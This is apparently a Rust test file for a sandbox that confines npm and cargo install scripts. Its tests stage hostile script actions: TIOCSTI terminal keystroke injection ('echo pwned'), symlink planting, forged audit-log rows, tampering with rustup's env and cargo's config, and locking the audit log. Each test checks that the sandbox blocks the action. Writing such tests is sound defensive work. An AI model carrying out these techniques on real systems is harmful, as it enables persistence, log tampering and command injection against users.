/// then reads a line, which the test types: the line is what the test
/// typed alone, or the pushed text first.
fn keystrokes(who: Who, strict: Strict) -> (Outcome, Value, String) {
    let g = Sandbox::new();
    if who == Who::Nobody {
        hand_to_nobody(&g.state);
    }
    let net = g.net();
    g.tool(
        "npm",
        &format!(
            "'{net}' tiocsti 'echo pwned' >\"$S/t.tmp\" && mv \"$S/t.tmp\" \"$S/tiocsti\"\n\
             read line\nprintf '%s' \"$line\" >\"$S/line\"\nexit 0\n"
        ),
    );
    let shim = g.shim("npm");
    let mut cmd = match who {
        Who::Me => g.shim_cmd("npm", ["install"]),
        Who::Nobody => g.as_nobody(shim.to_str().unwrap(), &["install"]),
    };
    if strict == Strict::Auto {
        Sandbox::strict(&mut cmd, "auto");
    }
    let (pty, mut run) = at_terminal(&g, cmd);
    g.wait_state(&mut run, "tiocsti");
    pty.type_bytes(b"END\n");
    let out = run.wait();
    out.expect_code(0);
    let step = g.step(&out, "tiocsti");
    (out, step, g.state_text("line"))
}

#[test]
fn keystrokes_cannot_be_pushed_into_the_terminal() {
    // The kernel lets anyone push into their own terminal where
    // dev.tty.legacy_tiocsti is 1, and root everywhere: the control needs
    // one of them.
    let legacy = fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").is_ok_and(|s| s.trim() == "1");
    if legacy || nix::unistd::geteuid().is_root() {
        let (out, step, line) = keystrokes(Who::Me, Strict::Off);
        check_eq!(out, step["tiocsti"], "ok", "the control pushes: {step}");
        check!(
            out,
            line.starts_with("echo pwned"),
            "the control's text arrived: {line:?}"
        );
    }
    let (out, step, line) = keystrokes(Who::Me, Strict::Auto);
    check_eq!(out, step["tiocsti"], "EPERM", "{step}");
    check_eq!(out, step["tiocsti_high_bit"], "EPERM", "{step}");
    check_eq!(out, line, "END", "the terminal got only what the user typed");
}

#[test]
fn as_an_unprivileged_user_keystrokes_cannot_be_pushed_into_the_terminal() {
    assert!(
        nix::unistd::geteuid().is_root(),
        "this test runs as root, as CI does, to drop to uid 65534"
    );
    let (out, step, line) = keystrokes(Who::Nobody, Strict::Auto);
    check_eq!(out, step["tiocsti"], "EPERM", "{step}");
    check_eq!(out, line, "END", "the terminal got only what the user typed");
}

// ---------------------------------------------------------------------------
// The real npm

/// The real npm installs a project whose postinstall is every door's
/// tries: npm runs it as an install script, in strict mode.
#[test]
#[ignore = "the real npm: run by .ci/run (cargo test -- --ignored)"]
fn a_real_npm_postinstall_walks_every_door_and_stays_inside() {
    let npm = require("npm");
    let room = Room::new(Who::Me, Strict::Auto);
    let g = &room.g;
    let mut body = room.head();
    for door in EVERY_DOOR {
        body.push_str(&(door.tries)(&room));
    }
    let script = g.script(&g.work.join("doors.sh"), &body);
    fs::write(
        g.work.join("package.json"),
        format!(
            r#"{{"name":"doors","version":"1.0.0","scripts":{{"postinstall":"{}"}}}}"#,
            script.display()
        ),
    )
    .unwrap();
    symlink(&npm, g.real.join("npm")).unwrap();
    let mut cmd = g.shim_cmd("npm", ["install", "--no-audit", "--no-fund"]);
    Sandbox::strict(&mut cmd, "auto");
    let stdin = TcpStream::connect(room.stdin_peer.local_addr().unwrap()).unwrap();
    cmd.stdin(Stdio::from(OwnedFd::from(stdin)));
    let out = g.run(cmd);
    out.expect_code(0);
    check!(out, g.state_path("home").exists(), "the postinstall ran");
    for door in EVERY_DOOR {
        (door.saw)(&room, &out);
    }
}

// ---------------------------------------------------------------------------
// Places an earlier script planted, and rows from a script

/// An install's script plants `.npmc` in the project, a symlink to a
/// directory outside (in the home, which no writable place holds, wherever
/// the tests run: the sandbox's own root may be under /tmp); the next
/// install is run with `--cache .npmc`, as a user might. The symlink must
/// not make its target writable.
#[test]
fn a_symlink_an_earlier_script_planted_does_not_make_its_target_writable() {
    for strict in [Strict::Off, Strict::Auto] {
        let g = Sandbox::new();
        let target = g.home.join(".config/target");
        fs::create_dir_all(&target).unwrap();
        let run = |args: &[&str]| {
            let mut cmd = g.shim_cmd("npm", args);
            if strict == Strict::Auto {
                Sandbox::strict(&mut cmd, "auto");
            }
            let out = g.run(cmd);
            out.expect_code(0);
            out
        };
        g.tool("npm", &format!("ln -s '{}' .npmc\nexit 0\n", target.display()));
        run(&["install"]);
        g.tool(
            "npm",
            &(attempt("cache", "write", ": >.npmc/planted") + "exit 0\n"),
        );
        let out = run(&["install", "--cache", ".npmc"]);
        let planted = target.join("planted").exists();
        if strict == Strict::Auto {
            check!(out, !planted, "the planted symlink's target stayed read-only");
        } else {
            check!(out, planted, "the control wrote through it");
        }
    }
}

/// A script's own program sends rows to the gate's relay with the proxy
/// credential: a forged invocation under this one, and a forged end row of
/// this one. Neither reaches the log.
#[test]
fn a_script_cannot_relay_rows_into_the_log() {
    for strict in [Strict::Off, Strict::Auto] {
        let g = Sandbox::new();
        let net = g.net();
        let forged = "{\"ts\":\"2026-01-01T00:00:00.000Z\",\"kind\":\"start\",\"audit_id\":\"01a000000000-forged\",\
                      \"parent_audit_id\":\"'$CLI_GUARD_AUDIT_ID'\",\"tool\":\"npm\",\"argv\":[\"npm\",\"install\",\"left-pad\"]}";
        let end =
            "{\"ts\":\"2026-01-01T00:00:00.000Z\",\"kind\":\"end\",\"audit_id\":\"'$CLI_GUARD_AUDIT_ID'\",\
                   \"exit_code\":0,\"allowed\":0,\"denied\":0}";
        g.tool(
            "npm",
            &format!(
                "'{net}' post-rows '{forged}' >\"$S/forged\"\n'{net}' post-rows '{end}' >\"$S/end\"\nexit 0\n"
            ),
        );
        let mut cmd = g.shim_cmd("npm", ["install"]);
        if strict == Strict::Auto {
            Sandbox::strict(&mut cmd, "auto");
        }
        let out = g.run(cmd);
        out.expect_code(0);
        for step in ["forged", "end"] {
            let s = g.step(&out, step);
            check_eq!(out, s["status"], 403, "{step}: refused: {s}");
        }
        let log = g.log();
        check!(
            out,
            log.rows().of("01a000000000-forged").is_empty(),
            "no forged invocation"
        );
        let start = log.rows().kind("start").tool("npm").one();
        check_eq!(
            out,
            log.rows().of(start.audit_id()).kind("end").len(),
            1,
            "one end row, the shim's own"
        );
    }
}

/// `cargo install` may write `$CARGO_HOME` (its `bin/`, its records), but a
/// build script in it cannot change rustup's `env`, which the user's
/// `~/.profile` sources, nor cargo's config, which every later build reads.
#[test]
fn cargo_install_writes_its_bin_but_not_rustups_env_or_cargos_config() {
    let g = Sandbox::new();
    let cargo_home = g.home.join(".cargo");
    fs::create_dir_all(cargo_home.join("bin")).unwrap();
    fs::write(cargo_home.join("env"), "# rustup\n").unwrap();
    fs::write(cargo_home.join("config.toml"), "# mine\n").unwrap();
    let mut body = String::new();
    body += &attempt("cargo-home", "bin", "echo x >\"$HOME/.cargo/bin/installed\"");
    body += &attempt("cargo-home", "env", "echo evil >>\"$HOME/.cargo/env\"");
    body += &attempt(
        "cargo-home",
        "env-aside",
        "mv \"$HOME/.cargo/env\" \"$HOME/.cargo/env.old\"",
    );
    body += &attempt(
        "cargo-home",
        "config",
        "echo '[build]' >>\"$HOME/.cargo/config.toml\"",
    );
    // The build script is a process below cargo, as a real one is.
    g.tool(
        "cargo",
        &format!("export S\nsh -c '{}'\nexit 0\n", body.replace('\'', "'\\''")),
    );
    let mut cmd = g.shim_cmd("cargo", ["install", "x"]);
    Sandbox::strict(&mut cmd, "auto");
    let out = g.run(cmd);
    out.expect_code(0);
    let did: Vec<String> = g
        .state_text("cargo-home")
        .lines()
        .filter(|l| l.starts_with("did"))
        .map(str::to_string)
        .collect();
    check_eq!(out, did, ["did bin"], "only bin/ was written");
    check_eq!(
        out,
        fs::read_to_string(cargo_home.join("env")).unwrap(),
        "# rustup\n",
        "env unchanged"
    );
}

/// The audit log's directory holds nothing for the tool: an install script
/// can neither read the log's history nor open its lock (with which a
/// `flock` would stall every writer of the log, in every terminal).
#[test]
fn the_audit_logs_history_and_lock_are_out_of_sight() {
    for strict in [Strict::Off, Strict::Auto] {
        let g = Sandbox::new();
        let log = g.audit.display().to_string();
        let mut body = String::from("export S\n");
        body += &attempt("log", "read", &format!("cat '{log}' >/dev/null"));
        body += &attempt("log", "lock", &format!(": <'{log}.lock'"));
        g.tool("npm", &format!("{body}exit 0\n"));
        let mut cmd = g.shim_cmd("npm", ["install"]);
        Sandbox::strict(&mut cmd, if strict == Strict::Auto { "auto" } else { "off" });
        let out = g.run(cmd);
        out.expect_code(0);
        let did: Vec<String> = g
            .state_text("log")
            .lines()
            .filter(|l| l.starts_with("did"))
            .map(str::to_string)
            .collect();
        match strict {
            Strict::Off => check_eq!(out, did, ["did read", "did lock"], "the control"),
            Strict::Auto => check!(out, did.is_empty(), "the log was in sight: {did:?}"),
        }
    }
}
